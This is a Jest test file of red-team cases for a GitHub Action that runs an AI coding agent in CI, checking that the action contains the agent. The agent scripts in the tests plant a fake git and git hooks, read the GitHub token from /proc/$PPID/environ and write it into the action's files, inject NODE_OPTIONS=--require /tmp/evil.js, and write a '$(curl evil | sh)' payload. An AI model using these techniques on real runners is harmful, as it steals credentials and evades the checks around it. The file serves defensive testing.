/**
 * Issue 18, attacked again after its fixes landed (a red-team pass): each test is a way around
 * what landed, end to end on dist/index.js, run the way a hosted runner runs it (hosted.ts: the
 * action and the stand-in CLI as the same non-root user, the runner's files under
 * RUNNER_TEMP/_runner_file_commands). Each one failed on 77ad492, where it was written. The
 * pass's other findings are the boundary the README's Safety section draws (a helper that escapes
 * the sweep, programs the agent leaves in folders on a later step's PATH, the runner's and this
 * action's own files, sudo): only a separate job stands between them and later steps.
 *
 * A "later step" here is what the runner does after the action: bash with the job's PATH (plus
 * GITHUB_PATH's lines), the job's environment (plus GITHUB_ENV's lines) and HOME, in the
 * workspace, as the same user.
 */
import { describe, expect, it } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { assistant, git, init, result, shell } from './helpers.js'
import { hostedRun, type HostedOptions, type HostedRun } from './hosted.js'

const KEY = 'key_test_redteam18_0123456789abcdef'
const TOKEN = 'ghs_redteam18token0123456789abcdefABCD'

/** Who runs the action and the CLI: nobody when the tests run as root (as hosted.ts does). */
const AS = process.getuid?.() === 0 ? { uid: 65534, gid: 65534 } : undefined

/** The PATH hosted.ts gives the action. */
function basePath(dir: string): string {
  return `${path.join(dir, 'bin')}:${path.dirname(process.execPath)}:/usr/bin:/bin`
}

/** A hook (or any program) of the agent's: it leaves a mark in HOME when it runs. */
const MARKING_HOOK = `#!/bin/sh\ntouch "$HOME/agent-program-ran"\n`

function ran(run: HostedRun): boolean {
  return fs.existsSync(path.join(run.home, 'agent-program-ran'))
}

/**
 * A later step of the job, as the runner starts it: GITHUB_PATH's lines put first on the PATH,
 * GITHUB_ENV's lines in the environment (single-line `NAME=value` only: enough here).
 */
function laterStep(run: HostedRun, script: string, PATH = basePath(run.dir)) {
  const env: Record<string, string> = {
    PATH: [...run.files.path.split('\n').filter((l) => l !== ''), PATH].join(':'),
    HOME: run.home,
    RUNNER_TEMP: run.temp,
    GIT_CONFIG_NOSYSTEM: '1'
  }
  for (const line of run.files.env.split('\n')) {
    const eq = line.indexOf('=')
    if (eq > 0 && !line.includes('<<')) env[line.slice(0, eq)] = line.slice(eq + 1)
  }
  return spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
    cwd: run.workspace,
    env,
    encoding: 'utf8',
    timeout: 30_000,
    ...(AS ?? {})
  })
}

/** A later step that commits (git runs the pre-commit hook). */
function laterCommit(run: HostedRun) {
  return laterStep(
    run,
    'git -c user.name=later -c user.email=later@example.com commit -q --allow-empty -m later'
  )
}

describe('programs found on PATH, where the agent can write (~/.local/bin)', () => {
  /**
   * A run whose PATH has ~/.local/bin before /usr/bin, as on GitHub's ubuntu-24.04 image
   * (/home/runner/.local/bin, /opt/pipx_bin, ~/.cargo/bin … all before /usr/bin, all the runner
   * user's), where the agent leaves a `git` that notes what it was given and runs the real one.
   */
  async function withAgentGit(
    inputs: Record<string, string>
  ): Promise<{ run: HostedRun; PATH: string }> {
    const opts: HostedOptions = {
      setup: (ws) => {
        const dir = path.dirname(ws)
        const origin = path.join(dir, 'origin.git')
        git(dir, 'init', '-q', '--bare', '-b', 'main', origin)
        git(ws, 'remote', 'add', 'origin', origin)
        git(ws, 'push', '-q', 'origin', 'main')
        const PATH = `${path.join(dir, 'bin')}:${path.join(dir, 'home')}/.local/bin:${path.dirname(process.execPath)}:/usr/bin:/bin`
        opts.env = { PATH, GITHUB_RUN_ID: '42' }
      },
      before: [init],
      agent: [
        'mkdir -p ~/.local/bin',
        'printf \'#!/bin/sh\\nenv >> "$HOME/agent-git-saw"\\nexec /usr/bin/git "$@"\\n\' > ~/.local/bin/git',
        'chmod +x ~/.local/bin/git',
        'echo "work" > change.txt'
      ].join('\n'),
      after: [result('done')],
      inputs
    }
    const run = await hostedRun(opts)
    return { run, PATH: opts.env?.PATH ?? '' }
  }

  it("runs its own git after the run from where it was before the run, not the agent's", async () => {
    const { run } = await withAgentGit({ 'api-key': KEY, 'github-token': TOKEN, push: 'true' })
    const saw = path.join(run.home, 'agent-git-saw')
    const seen = fs.existsSync(saw) ? fs.readFileSync(saw, 'utf8') : ''
    // The comparison, the commit and the push (the token in its environment) ran the agent's
    // program, after the sweep: it could push anything, anywhere the token may.
    const header = Buffer.from(`x-access-token:${TOKEN}`).toString('base64')
    expect({
      actionGitCalls: (seen.match(/^GIT_DIR=/gm) ?? []).length,
      sawTheToken: seen.includes(header)
    }).toEqual({ actionGitCalls: 0, sawTheToken: false })
  }, 90_000)
})

describe("the action's own files under RUNNER_TEMP (issue 18: 1, 11)", () => {
  it('publishes no transcript or manifest holding what the agent wrote into them in place', async () => {
    // Both are the runner user's files (mode 0600 is no bar to the same user), named in
    // RUNNER_TEMP for anyone who lists it: the agent overwrites their first bytes with the token
    // it reads from the action's environment. Same file, same inode: nothing looks swapped.
    // (The action's own writes are redacted; these never pass through it.)
    const calls: object[] = []
    for (let i = 0; i < 600; i++)
      calls.push(
        ...shell(`c${String(i)}`, `echo step ${String(i)} of a long run`, {
          success: { exitCode: 0, stdout: 'ok', stderr: '' }
        })
      )
    const run = await hostedRun({
      before: [init, assistant('working'), ...calls],
      agent: [
        "t=$(tr '\\0' '\\n' < /proc/$PPID/environ | sed -n 's/^INPUT_GITHUB-TOKEN=//p')",
        'for i in $(seq 1 200); do ls "$RUNNER_TEMP"/cursor-agent-manifest-*.calls.ndjson >/dev/null 2>&1 && break; sleep 0.05; done',
        // Into the spool's first entry; past the transcript's end, where the action's later
        // writes (at its own offset) do not reach.
        'for f in "$RUNNER_TEMP"/cursor-agent-manifest-*.calls.ndjson; do',
        '  printf \'%s\' "$t" | dd of="$f" bs=1 seek=1 conv=notrunc 2>/dev/null',
        'done',
        'for f in "$RUNNER_TEMP"/cursor-agent-transcript-*.ndjson; do',
        '  printf \'%s\' "$t" | dd of="$f" bs=1 seek=$(( $(stat -c %s "$f") + 4000000 )) conv=notrunc 2>/dev/null',
        'done'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY, 'github-token': TOKEN }
    })
    expect(run.outputs.conclusion).toBe('success')
    const leaks = (['transcript', 'manifest'] as const).filter((name) => {
      const file = run.outputs[name] ?? ''
      return file !== '' && fs.readFileSync(file, 'utf8').includes(TOKEN)
    })
    expect(leaks).toEqual([])
  })
})

describe("git's config and hooks, read by a later step (issue 18: 18)", () => {
  it('puts back a hook the agent planted in a .git/hooks it then made read-only', async () => {
    const run = await hostedRun({
      before: [init],
      agent: [
        `printf '${MARKING_HOOK.replace(/\n/g, '\\n')}' > .git/hooks/pre-commit`,
        'chmod +x .git/hooks/pre-commit',
        'chmod 555 .git/hooks'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(fs.existsSync(path.join(run.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false)
    laterCommit(run)
    expect(ran(run)).toBe(false)
  })

  it('puts back a config file .git/config includes from RUNNER_TEMP (actions/checkout v6 keeps its credentials there)', async () => {
    const run = await hostedRun({
      setup: (ws) => {
        // What actions/checkout@v6 with persist-credentials (the default) leaves behind.
        const creds = path.join(path.dirname(ws), 'temp', 'git-credentials-0f1e2d3c.config')
        fs.writeFileSync(
          creds,
          '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ***\n'
        )
        git(ws, 'config', '--local', `includeIf.gitdir:${path.join(ws, '.git')}.path`, creds)
      },
      before: [init],
      agent: [
        'mkdir -p ~/.cache/h',
        `printf '${MARKING_HOOK.replace(/\n/g, '\\n')}' > ~/.cache/h/pre-commit`,
        'chmod +x ~/.cache/h/pre-commit',
        'f=$(ls "$RUNNER_TEMP"/git-credentials-*.config)',
        'printf \'[core]\\n\\thooksPath = %s\\n\' "$HOME/.cache/h" >> "$f"'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(run.outputs.conclusion).toBe('success')
    laterCommit(run)
    expect(ran(run)).toBe(false)
  })

  it('does not let a .git/commondir the agent wrote send a later git to config and hooks of its own', async () => {
    const run = await hostedRun({
      before: [init],
      agent: [
        'cp -r .git ~/g',
        `printf '${MARKING_HOOK.replace(/\n/g, '\\n')}' > ~/g/hooks/pre-commit`,
        'chmod +x ~/g/hooks/pre-commit',
        'echo "$HOME/g" > .git/commondir'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(fs.existsSync(path.join(run.workspace, '.git', 'commondir'))).toBe(false)
    laterCommit(run)
    expect(ran(run)).toBe(false)
  })
})

describe('never hangs, and a cancel is heard (issue 18: 10, 19)', () => {
  it('is not held for minutes by a sparse 200 GB GITHUB_ENV (hashed in full, synchronously)', async () => {
    const run = await hostedRun({
      before: [init],
      agent: 'truncate -s 200G "$(ls "$RUNNER_FILES"/set_env_*)"',
      after: [result('done')],
      inputs: { 'api-key': KEY },
      // About 34 s per 10 GB here: ten minutes and more without the limit.
      timeoutMs: 30_000
    })
    expect(run.outputs.conclusion).toBe('success')
    expect(run.files.env).toBe('')
  }, 60_000)

  it('publishes within the runner’s grace when cancelled while the patch is written', async () => {
    let signalled = 0
    let poll: NodeJS.Timeout | undefined
    const run = await hostedRun({
      before: [init],
      // 160 MB of changes that do not compress: seconds of `git diff --binary`.
      agent: 'for i in 1 2 3 4; do head -c 40000000 /dev/urandom > "big$i"; done',
      after: [result('done')],
      inputs: { 'api-key': KEY },
      timeoutMs: 120_000,
      onStart: (child, dir) => {
        const temp = path.join(dir, 'temp')
        poll = setInterval(() => {
          const names = fs.existsSync(temp) ? fs.readdirSync(temp) : []
          if (!names.some((n) => /^cursor-agent-.*\.patch$/.test(n))) return
          clearInterval(poll)
          signalled = Date.now()
          child.kill('SIGTERM')
        }, 10)
      }
    })
    clearInterval(poll)
    expect(signalled).toBeGreaterThan(0)
    // A runner sends SIGKILL 2.5 s after its SIGTERM.
    const late = run.endedAt - signalled
    expect({ conclusion: run.outputs.conclusion, withinGrace: late < 2500 }).toEqual({
      conclusion: 'cancelled',
      withinGrace: true
    })
  }, 150_000)
})

describe('a runner file that cannot be put back (issue 18: 3)', () => {
  it('leaves nothing of the agent in it: a failed step’s GITHUB_ENV is still read, by post steps and if: always() steps', async () => {
    const run = await hostedRun({
      setup: (_ws, paths) => {
        fs.writeFileSync(paths.env, `BIG=${'x'.repeat(4_300_000)}\n`)
      },
      before: [init],
      agent: [
        'e=$(ls "$RUNNER_FILES"/set_env_*)',
        'echo \'NODE_OPTIONS=--require /tmp/evil.js\' >> "$e"'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(run.outputs.failure_reason).toBe('integrity')
    // (A boolean: the file is over four megabytes.)
    expect(run.files.env.includes('NODE_OPTIONS')).toBe(false)
  })
})

describe('the event payload a later step reads (red team of item 3)', () => {
  it('is put back as it was when the agent rewrites it', async () => {
    const event = { action: 'opened', issue: { number: 3, title: 'Docs' } }
    const run = await hostedRun({
      event,
      before: [init],
      agent: 'printf \'{"issue":{"number":1,"title":"$(curl evil | sh)"}}\' > "$GITHUB_EVENT_PATH"',
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(JSON.parse(run.event)).toEqual(event)
    expect(run.outputs.conclusion).toBe('success')
  })
})

describe('redaction (issue 18: 19)', () => {
  it('masks an AWS secret key given to `aws configure set` (a space after its name)', async () => {
    const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
    const run = await hostedRun({
      before: [init, assistant(`run: aws configure set aws_secret_access_key ${secret}`)],
      agent: 'true',
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(run.outputs.conclusion).toBe('success')
    for (const text of [run.stdout, run.summary, run.outputs.final_message ?? ''])
      expect(text).not.toContain(secret)
  })
})
